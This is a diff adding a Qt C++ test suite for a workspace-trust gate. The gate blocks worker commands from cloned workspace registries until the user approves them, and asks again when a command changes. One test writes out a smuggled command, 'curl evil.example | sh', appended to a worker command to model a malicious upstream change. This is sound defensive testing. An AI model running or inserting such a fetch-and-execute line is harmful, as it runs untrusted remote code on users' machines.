@@ -1,0 +1,187 @@
+// WorkspaceTrust and its gate in KernelService: a workspace cloned with git whose registry
+// carries a worker command is refused before anything runs or is created, until the user
+// trusts it (and a changed command asks again); a registry outside workspaces is trusted.
+#include "core/services/kernel_service.h"
+#include "core/services/workspace_trust.h"
+
+#include "core/registry/registry.h"
+#include "core/workspace/workspace.h"
+
+#include "support/test_paths.h"
+
+#include <QDir>
+#include <QFile>
+#include <QProcess>
+#include <QTemporaryDir>
+#include <QtTest>
+
+using namespace Qt::StringLiterals;
+
+class tst_WorkspaceTrust final : public QObject
+{
+    Q_OBJECT
+
+private Q_SLOTS:
+    void initTestCase();
+    void init();
+    void listsTheCommandsARegistryCarries();
+    void clonedWorkspaceRunsNothingUntilTrusted();
+    void changedCommandAsksAgain();
+    void registryOutsideWorkspacesIsTrusted();
+    void givenEntryIsApproved();
+
+private:
+    // A workspace at `dir` whose registry holds one local entry running `worker`.
+    void makeWorkspace(const QString &dir, const QString &worker, const QString &cancel = {});
+    twb::KernelService service(const QString &workspace) const;
+    static void git(const QStringList &arguments, const QString &dir);
+
+    QTemporaryDir m_config; // the user's configuration folder (XDG_CONFIG_HOME)
+    std::unique_ptr<QTemporaryDir> m_dir;
+    QString m_marker;       // what the worker command would create
+};
+
+void tst_WorkspaceTrust::initTestCase()
+{
+    // The approvals live in the user's settings: a private configuration folder for this test.
+    qputenv("XDG_CONFIG_HOME", m_config.path().toUtf8());
+}
+
+void tst_WorkspaceTrust::init()
+{
+    m_dir = std::make_unique<QTemporaryDir>();
+    m_marker = m_dir->filePath(u"worker-ran"_s);
+}
+
+void tst_WorkspaceTrust::makeWorkspace(const QString &dir, const QString &worker, const QString &cancel)
+{
+    QVERIFY(twb::Workspace(dir).ensureCreated().has_value());
+    twb::Json workbench{{"python", twb::toStd(twb::test::systemPython())},
+                        {"remote_root", twb::toStd(dir + u"/remote"_s)},
+                        {"kernel_worker_command", twb::toStd(worker)}};
+    if (!cancel.isEmpty())
+        workbench["kernel_cancel_command"] = twb::toStd(cancel);
+    const twb::Json json{{"mode", "local"}, {"tpu_name", "box"}, {"workbench", workbench}};
+    auto entry = twb::MachineEntry::fromJson(json, u"box"_s);
+    QVERIFY(entry.has_value());
+    auto written = twb::Registry::modify(twb::Workspace(dir).registryFile(), [&](twb::Registry &registry) -> twb::Result<void> {
+        registry.upsert(*entry);
+        return {};
+    });
+    QVERIFY(written.has_value());
+}
+
+twb::KernelService tst_WorkspaceTrust::service(const QString &workspace) const
+{
+    return twb::KernelService(twb::MachineAccess(twb::Workspace(workspace).registryFile(), twb::ConnectionProfile::defaults()),
+                              twb::Workspace(workspace).kernelRunsDir(), twb::test::sourceDir() + u"/templates"_s);
+}
+
+void tst_WorkspaceTrust::git(const QStringList &arguments, const QString &dir)
+{
+    QProcess process;
+    process.setWorkingDirectory(dir);
+    process.start(u"git"_s, QStringList{u"-c"_s, u"user.name=t"_s, u"-c"_s, u"user.email=t@t"_s} + arguments);
+    QVERIFY(process.waitForFinished(30000));
+    QVERIFY2(process.exitCode() == 0, process.readAllStandardError().constData());
+}
+
+void tst_WorkspaceTrust::listsTheCommandsARegistryCarries()
+{
+    const QString ws = m_dir->filePath(u"ws"_s);
+    makeWorkspace(ws, u"bash worker.sh {run_dir}"_s, u"pkill -f worker.sh"_s);
+    const QString registry = twb::Workspace(ws).registryFile();
+    QCOMPARE(twb::WorkspaceTrust::workspaceOf(registry), QFileInfo(ws).canonicalFilePath());
+    auto commands = twb::WorkspaceTrust::commands(registry);
+    QVERIFY(commands.has_value());
+    QCOMPARE(commands->size(), 2);
+    QCOMPARE(commands->at(0).field, u"workbench.kernel_worker_command"_s);
+    QCOMPARE(commands->at(0).command, u"bash worker.sh {run_dir}"_s);
+    QCOMPARE(commands->at(1).field, u"workbench.kernel_cancel_command"_s);
+    QCOMPARE(twb::WorkspaceTrust::unapproved(registry)->size(), 2);
+
+    // The built-in replay worker is not a command of the workspace's.
+    const QString demo = m_dir->filePath(u"demo"_s);
+    makeWorkspace(demo, u"replay"_s);
+    QVERIFY(twb::WorkspaceTrust::commands(twb::Workspace(demo).registryFile())->isEmpty());
+}
+
+void tst_WorkspaceTrust::clonedWorkspaceRunsNothingUntilTrusted()
+{
+    // Someone's workspace in git, with a worker command; this user trusted their own copy.
+    const QString origin = m_dir->filePath(u"origin"_s);
+    const QString worker = u"touch "_s + m_marker + u" # {run_dir} {target}"_s;
+    makeWorkspace(origin, worker);
+    twb::WorkspaceTrust::approve(origin, {worker});
+    git({u"init"_s, u"-q"_s}, origin);
+    git({u"add"_s, u"-A"_s}, origin);
+    git({u"commit"_s, u"-q"_s, u"-m"_s, u"workspace"_s}, origin);
+    const QString clone = m_dir->filePath(u"clone"_s);
+    git({u"clone"_s, u"-q"_s, origin, clone}, m_dir->path());
+
+    // Opened from the clone: refused before anything is created, the command shown, the way out named.
+    const QString job = twb::test::sourceDir() + u"/templates/kernel/examples/rmsnorm-torchax/job.json"_s;
+    auto run = service(clone).createRun(job, u"box"_s);
+    QVERIFY(!run.has_value());
+    const QString message = run.error().message;
+    QVERIFY2(message.contains(worker), qPrintable(message));
+    QVERIFY2(message.contains(u"workspace trust"_s), qPrintable(message));
+    QVERIFY2(message.contains(twb::Workspace(clone).registryFile()), qPrintable(message));
+    QVERIFY(!QFile::exists(m_marker));
+    const QDir runs(twb::Workspace(clone).kernelRunsDir());
+    QVERIFY(!runs.exists() || runs.isEmpty(QDir::AllEntries | QDir::NoDotAndDotDot));
+    QVERIFY(!QDir(clone + u"/remote/kernel-runs"_s).exists());
+
+    // Trusted: the gate opens (what the worker then does is the orchestrator's business).
+    twb::WorkspaceTrust::approve(clone, {worker});
+    QVERIFY(twb::WorkspaceTrust::unapproved(twb::Workspace(clone).registryFile())->isEmpty());
+    auto trusted = service(clone).createRun(job, u"box"_s);
+    QVERIFY2(trusted.has_value(), qPrintable(trusted ? QString() : trusted.error().message));
+}
+
+void tst_WorkspaceTrust::changedCommandAsksAgain()
+{
+    const QString ws = m_dir->filePath(u"ws"_s);
+    makeWorkspace(ws, u"bash worker-v1.sh"_s);
+    twb::WorkspaceTrust::approve(ws, {u"bash worker-v1.sh"_s});
+    const QString registry = twb::Workspace(ws).registryFile();
+    QVERIFY(twb::WorkspaceTrust::unapproved(registry)->isEmpty());
+    makeWorkspace(ws, u"bash worker-v1.sh; curl evil.example | sh"_s); // a pull changed it
+    QCOMPARE(twb::WorkspaceTrust::unapproved(registry)->size(), 1);
+    twb::WorkspaceTrust::revoke(ws);
+    makeWorkspace(ws, u"bash worker-v1.sh"_s);
+    QCOMPARE(twb::WorkspaceTrust::unapproved(registry)->size(), 1);
+}
+
+void tst_WorkspaceTrust::registryOutsideWorkspacesIsTrusted()
+{
+    // The user's own registry (--config FILE, no workbench.json beside it).
+    const QString ws = m_dir->filePath(u"ws"_s);
+    makeWorkspace(ws, u"bash mine.sh"_s);
+    const QString own = m_dir->filePath(u"own/tpu_config.json"_s);
+    QVERIFY(QDir().mkpath(m_dir->filePath(u"own"_s)));
+    QVERIFY(QFile::copy(twb::Workspace(ws).registryFile(), own));
+    QVERIFY(twb::WorkspaceTrust::workspaceOf(own).isEmpty());
+    QVERIFY(twb::WorkspaceTrust::unapproved(own)->isEmpty());
+    const auto loaded = twb::Registry::load(own);
+    QVERIFY(loaded.has_value());
+    const twb::MachineEntry *entry = loaded->find(u"box"_s);
+    QVERIFY(entry);
+    QVERIFY(twb::WorkspaceTrust::requireAll(own, *entry).has_value());
+}
+
+void tst_WorkspaceTrust::givenEntryIsApproved()
+{
+    const QString ws = m_dir->filePath(u"ws"_s);
+    makeWorkspace(ws, u"bash typed.sh"_s);
+    const QString registry = twb::Workspace(ws).registryFile();
+    const auto loaded = twb::Registry::load(registry);
+    QVERIFY(loaded.has_value() && loaded->find(u"box"_s));
+    const twb::MachineEntry entry = *loaded->find(u"box"_s);
+    QVERIFY(!twb::WorkspaceTrust::requireAll(registry, entry).has_value());
+    twb::WorkspaceTrust::approveEntry(twb::WorkspaceTrust::workspaceOf(registry), entry);
+    QVERIFY(twb::WorkspaceTrust::requireAll(registry, entry).has_value());
+}
+
+QTEST_GUILESS_MAIN(tst_WorkspaceTrust)
+#include "tst_workspace_trust.moc"
